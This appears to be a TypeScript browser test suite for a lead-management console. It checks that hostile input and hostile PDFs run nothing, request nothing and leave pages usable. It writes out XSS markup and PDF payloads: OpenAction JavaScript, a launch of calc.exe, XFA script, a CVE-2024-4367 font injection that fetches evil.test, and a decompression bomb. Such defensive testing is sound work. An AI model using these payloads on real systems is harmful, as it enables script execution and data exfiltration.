import {createServer} from 'node:http';
import type {AddressInfo} from 'node:net';
import {deflateSync} from 'node:zlib';

import type {Page} from 'playwright-core';
import t from 'tap';
import type {Test} from 'tap';

import {HOSTILE_STRINGS} from '../hostile-strings.js';
import {OwnerClient} from '../owner-client.js';
import {makePdf} from '../pdf.js';
import {makeTextPdf} from '../text-pdf.js';
import {Visitor} from '../visitor.js';
import {BROWSER} from './browser.js';
import {
  PHONE,
  createSite,
  findTooWide,
  makeLead,
  openConsole,
  startConsole,
} from './console-page.js';

const {server, browser} = await startConsole(t);

const MARKUP = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';

/** Makes a lead whose every text is hostile, at a site with a hostile name. */
const makeHostileLead = async (site: string): Promise<Visitor> => {
  const visitor = await Visitor.arrive(server.url, site);
  await visitor.call('PUT', '/api/session/consents', {
    json: {
      consents: [{purpose: 'personal_data', granted: true, wording: MARKUP, locale: 'en'}],
    },
  });
  await visitor.upload(makePdf(), {name: `${MARKUP}.pdf`});
  await visitor.contact('"<script>window.ran=1</script>"@example.com', MARKUP);
  await visitor.contact('anna@example.com', MARKUP, {locale: 'ar'});
  for (const [index, body] of [MARKUP, ...HOSTILE_STRINGS].entries())
    await visitor.call('POST', '/api/messages', {json: {client_id: `m${index}`, body}});
  for (const [index, text] of [MARKUP, '\u202eReversed', 'n'.repeat(1_000)].entries())
    await server.sql`
      insert into session_answers (session_uuid, field, kind, question, value, label, position)
      values (${visitor.uuid}, ${`q${index}`}, 'text', ${text}, ${server.sql.json(text)}, ${text},
              ${index})`;
  return visitor;
};

t.test('hostile texts in every field run nothing and break no page', async (t) => {
  const site = await createSite(server, MARKUP);
  const visitor = await makeHostileLead(site);
  const others = HOSTILE_STRINGS.filter((text) => text.trim() && text.length < 100);
  for (const name of others.slice(0, 30)) await makeLead(server, {site, name, files: []});
  await OwnerClient.create(server, {name: MARKUP, roles: {[site]: 'agent'}});

  for (const context of [{}, PHONE]) {
    const {page, main, noise, requested} = await openConsole(
      browser,
      server,
      `${site}/leads?view=all`,
      {context, name: MARKUP, roles: {[site]: 'owner', demo: 'owner'}},
    );
    await main.locator('.leads [data-uuid]').first().waitFor();
    t.same(await findTooWide(page), [], 'the list');
    for (const [path, isThere] of [
      [`leads/${visitor.uuid}`, '.transcript .message'],
      [`${site}/funnel`, '.bars, .empty'],
      [`${site}/site`, '.site-page'],
      [`${site}/people`, '.people'],
      ['account', '.sessions'],
    ] as const) {
      await page.goto(`${server.url}/console/${path}`);
      await main.locator(isThere).first().waitFor();
      await openAllDetails(page);
      t.same(await findTooWide(page), [], path);
      t.equal(await page.evaluate('window.ran'), undefined, `nothing ran: ${path}`);
    }
    if (BROWSER === 'chromium') {
      await page.goto(`${server.url}/console/leads/${visitor.uuid}`);
      await main.locator('.transcript .message').first().waitFor();
      await page.emulateMedia({media: 'print'});
      t.same(await findTooWide(page), [], 'in print');
    }
    t.same(noise, [], 'no policy was violated');
    t.same(foreign(requested, server.url), []);
  }
});

/** Shows everything that is folded. */
const openAllDetails = (page: Page) =>
  page.evaluate('document.querySelectorAll("details").forEach((details) => (details.open = true))');

const foreign = (requested: readonly string[], url: string) =>
  requested.filter((one) => new URL(one).origin !== url && !/^(data|blob):/.test(one));

/** Returns a PDF in which a text of its source is replaced. */
const makeHostilePdf = (from: string, to: string, pages = [['Hello']]): Buffer =>
  Buffer.from(makeTextPdf(pages).toString('latin1').replace(from, to), 'latin1');

const withEntry = (entry: string): Buffer =>
  makeHostilePdf('/Type /Catalog', `/Type /Catalog ${entry}`);

const BOMB = deflateSync(deflateSync(Buffer.alloc(64_000_000, ' '))).toString('latin1');

const HOSTILE_PDFS: Record<string, Buffer> = {
  script: withEntry(
    '/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("http://evil.test/")) >>',
  ),
  'a URL': withEntry('/OpenAction << /S /URI /URI (http://evil.test/) >>'),
  'a program': withEntry('/OpenAction << /S /Launch /F (calc.exe) >>'),
  'another file': withEntry('/OpenAction << /S /GoToR /F (http://evil.test/a.pdf) /D [0 /Fit] >>'),
  XFA: withEntry('/AcroForm << /XFA (<xdp><script>fetch("http://evil.test/")</script></xdp>) >>'),
  'an embedded file': withEntry(
    '/Names << /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) >>] >> >>',
  ),
  'the font of CVE-2024-4367': makeHostilePdf(
    '/BaseFont /Helvetica',
    "/BaseFont /Helvetica /FontMatrix [0.1 0 0 0.1 0 (0\\); fetch\\('http://evil.test/'\\)//)]",
  ),
  '10,000 pages': makeTextPdf(Array.from({length: 10_000}, () => ['Hello'])),
  'pages that contain themselves': makeHostilePdf('/Kids [4 0 R]', '/Kids [2 0 R]'),
  'a page that grows': makeHostilePdf(
    /<< \/Length \d+ >>\nstream\n[^]*?\nendstream/.exec(
      makeTextPdf([['Hello']]).toString('latin1'),
    )?.[0] ?? '',
    `<< /Length ${BOMB.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${BOMB}\nendstream`,
  ),
};

t.test(
  'a hostile PDF opens nothing, requests nothing, and leaves the console usable',
  async (t) => {
    const {page, main, noise, requested, context} = await openConsole(browser, server, 'account');
    for (const [what, bytes] of Object.entries(HOSTILE_PDFS)) {
      const {uuid} = await makeLead(server, {files: [{name: 'a.pdf', bytes}]});
      await page.goto(`${server.url}/console/leads/${uuid}`);
      const documents = main.locator('.documents');
      await documents.getByRole('button', {name: /Look at .a.pdf/}).click();
      await documents.locator('.opened .pages, .opened .note').first().waitFor();
      const show = documents.getByRole('button', {name: 'Show pages'});
      if (await show.isVisible()) {
        await show.click();
        const canvas = page.frameLocator('iframe').locator('canvas').first();
        await canvas.or(documents.getByRole('alert')).first().waitFor();
      } else await documents.getByText('This file is damaged').waitFor();
      await main.getByRole('button', {name: 'Mark as done'}).click();
      await main.getByRole('button', {name: 'Reopen'}).waitFor();
      t.equal(await page.evaluate('window.ran'), undefined, what);
    }
    t.same(noise, []);
    t.same(foreign(requested, server.url), []);
    t.equal(context.pages().length, 1, 'no window was opened');
  },
);

t.test('the frame reaches neither the network nor the console', async (t) => {
  const foreign = await startCounter(t);
  const {uuid} = await makeLead(server, {files: [{name: 'a.pdf', bytes: makeTextPdf([['a']])}]});
  const {page, main} = await openConsole(browser, server, `leads/${uuid}`);
  await main
    .locator('.documents')
    .getByRole('button', {name: /Look at .a.pdf/})
    .click();
  await main.getByRole('button', {name: 'Show pages'}).click();
  await page.frameLocator('iframe').locator('canvas').waitFor();
  const frame = page.frames().find((one) => one.url().endsWith('/console/pages/'));
  if (!frame) throw new Error('There is no frame for the pages.');
  const own = server.logLines.length;
  const outcomes = {
    fetch: `fetch("${foreign.url}").then(() => "reached", () => "blocked")`,
    'fetch of the console': `fetch("${server.url}/api/owner/account").then(() => "reached", () => "blocked")`,
    image: `new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve("reached");
      image.onerror = () => resolve("blocked");
      image.src = "${foreign.url}";
    })`,
    document: attempt('parent.document.title'),
    cookie: attempt('document.cookie'),
    storage: attempt('localStorage.length'),
    window: attempt(`open("${foreign.url}").closed`),
    navigation: attempt(`top.location = "${foreign.url}"`),
  };
  for (const [name, script] of Object.entries(outcomes))
    t.equal(await frame.evaluate<string>(script), 'blocked', name);
  t.equal(foreign.count(), 0, 'the other server got no request');
  t.notOk(
    server.logLines.slice(own).some((line) => line['route'] === '/api/owner/account'),
    'nor did the console',
  );
  t.equal(new URL(page.url()).pathname, `/console/leads/${uuid}`);
});

/** Returns a script whose value is whether an expression throws. */
const attempt = (expression: string): string =>
  `(() => { try { void (${expression}); return "reached"; } catch { return "blocked"; } })()`;

/** Starts a server that counts its requests. */
const startCounter = async (t: Test) => {
  let count = 0;
  const server = createServer((_request, response) => {
    count++;
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.teardown(() => server.close());
  const {port} = server.address() as AddressInfo;
  return {url: `http://127.0.0.1:${port}/a.png`, count: () => count};
};

t.test('a frame that is silent is removed, and the console stays usable', async (t) => {
  const {uuid} = await makeLead(server, {files: [{name: 'a.pdf', bytes: makeTextPdf([['a']])}]});
  const {page, main} = await openConsole(browser, server, `leads/${uuid}`);
  // The frame gets a script that sends nothing, as one that hangs.
  await page.route('**/console/assets/pages-*.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: '',
      headers: {'access-control-allow-origin': '*'},
    }),
  );
  await page.clock.install();
  await main
    .locator('.documents')
    .getByRole('button', {name: /Look at .a.pdf/})
    .click();
  await main.getByRole('button', {name: 'Show pages'}).click();
  await main.locator('iframe').waitFor();
  await page.clock.runFor(9_000);
  t.equal(await main.locator('iframe').count(), 1);
  await page.clock.runFor(1_500);
  await main.getByText('This file is too heavy to show; download it.').waitFor();
  t.equal(await main.locator('iframe').count(), 0);
});
